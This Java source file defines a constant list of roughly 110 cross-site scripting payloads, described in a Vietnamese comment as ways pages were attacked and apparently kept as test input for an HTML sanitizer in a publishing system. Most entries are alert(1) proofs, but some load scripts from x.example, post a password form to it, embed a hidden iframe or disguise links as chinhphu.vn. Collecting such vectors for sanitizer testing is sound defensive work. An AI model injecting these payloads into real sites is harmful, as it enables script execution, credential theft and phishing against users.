package vn.caunoi.publishing;

import java.util.List;

/** Ways in which pages were attacked (mẫu tấn công). */
final class Vectors {

    private Vectors() {}

    static final List<String> ALL =
            """
            <script>alert(1)</script>
            <SCRIPT SRC=//x.example/a.js></SCRIPT>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <script/xss>alert(1)</script>
            <script>alert(1)
            <<script>alert(1);//<</script>
            <img src=x onerror=alert(1)>
            <img src="x` `<script>alert(1)</script>"` `>
            <IMG SRC=javascript:alert(1)>
            <img src="jav&#x09;ascript:alert(1)">
            <img src="/anh/../javascript:alert(1)">
            <img \"""><script>alert(1)</script>">
            <img/src=x/onerror=alert(1)>
            <img src=x:alert(alt) onerror=eval(src) alt=xss>
            <img src=data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+>
            <img srcset="x 1x, javascript:alert(1) 2x">
            <img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
            <svg onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
            <svg><animate attributeName=href values=javascript:alert(1) /></svg>
            <svg><style><img src=x onerror=alert(1)></style></svg>
            <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
            <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
            <math href="javascript:alert(1)">x</math>
            <math><annotation-xml encoding="text/html"><p><script>alert(1)</script></p></annotation-xml></math>
            <iframe src="javascript:alert(1)"></iframe>
            <iframe srcdoc="<script>alert(1)</script>"></iframe>
            <iframe src=https://cobac.example width=0 height=0>
            <object data="javascript:alert(1)"></object>
            <embed src="javascript:alert(1)">
            <applet code=x></applet>
            <a href="javascript:alert(1)">x</a>
            <a href="JaVaScRiPt:alert(1)">x</a>
            <a href=" &#14; javascript:alert(1)">x</a>
            <a href="java&Tab;script:alert(1)">x</a>
            <a href="java&NewLine;script:alert(1)">x</a>
            <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
            <a href="vbscript:msgbox(1)">x</a>
            <a href="data:text/html,<script>alert(1)</script>">x</a>
            <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
            <a href="//x.example">x</a>
            <a href="/\\x.example">x</a>
            <a href="\\\\x.example">x</a>
            <a href="https:x.example">x</a>
            <a href="https://chinhphu.vn@x.example/">x</a>
            <a href="https://chinhphu.vn.x.example/">x</a>
            <a href="https://x.example\\.chinhphu.vn/">x</a>
            <a href="x" onclick=alert(1) onmouseover="alert(1)">x</a>
            <a href="/" style="position:fixed;inset:0">x</a>
            <a target=_blank ping="https://x.example" href="/">x</a>
            <body onload=alert(1)>
            <body background="javascript:alert(1)">
            <input autofocus onfocus=alert(1)>
            <select onchange=alert(1)><option>x</select>
            <textarea autofocus onfocus=alert(1)></textarea><p>x
            <textarea><script>alert(1)</script>
            <button formaction="javascript:alert(1)">x</button>
            <form action="javascript:alert(1)"><input type=submit></form>
            <form action=https://x.example><input name=password type=password></form>
            <details open ontoggle=alert(1)><summary>x</summary>y</details>
            <video><source onerror="alert(1)"></video>
            <audio src=x onerror=alert(1)>
            <video poster=javascript:alert(1)//></video>
            <marquee onstart=alert(1)>x</marquee>
            <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
            <link rel=stylesheet href="javascript:alert(1)">
            <base href="https://x.example/">
            <style>@import 'https://x.example/a.css';</style>
            <style>body{background:url(javascript:alert(1))}</style>
            <p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>
            <div style="behavior:url(x.htc)">x</div>
            <table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
            <table><script>alert(1)</script><tr><td>x
            <table><td><svg/onload=alert(1)></table>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
            <template><script>alert(1)</script></template>
            <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
            <plaintext><script>alert(1)</script>
            <noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
            <title><p title="</title><img src=x onerror=alert(1)>"></title>
            <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
            <!-- --!><script>alert(1)</script> -->
            <!--><img src=x onerror=alert(1)>-->
            <![CDATA[<script>alert(1)</script>]]>
            <?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
            <?php echo '<script>alert(1)</script>' ?>
            <% alert(1) %><script>alert(1)</script>
            <x onclick=alert(1)>x</x>
            <custom-element onpointerenter=alert(1)>x</custom-element>
            <p id="javascript:alert(1)">x</p>
            <p id=fn1 onclick=alert(1)>x</p>
            <img id=fn1 name=getElementById src=x>
            <a id="fn1" href="javascript:alert(1)#fn1">x</a>
            <th scope="row" onclick=alert(1)>x</th>
            <td colspan="javascript:alert(1)">x</td>
            <a href='x'>&lt;script&gt;alert(1)&lt;/script&gt;</a>
            &lt;img src=x onerror=alert(1)&gt;
            <p>&amp;lt;script&amp;gt;</p>
            <b <script>alert(1)</script>0</b>
            <a href="/x"></a><a href="/y" onx=1>y<a href="/z">z
            <p/><p/onclick=alert(1)>x
            <portal src=https://x.example></portal>
            <frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
            <dialog open onclose=alert(1)>x</dialog>
            <map name=m><area href=javascript:alert(1)></map>
            <isindex action=javascript:alert(1)>
            <keygen autofocus onfocus=alert(1)>
            <object type=text/x-scriptlet data=https://x.example></object>
            <img src=/anh/"onerror=alert(1)//">
            """
                    .lines()
                    .toList();
}
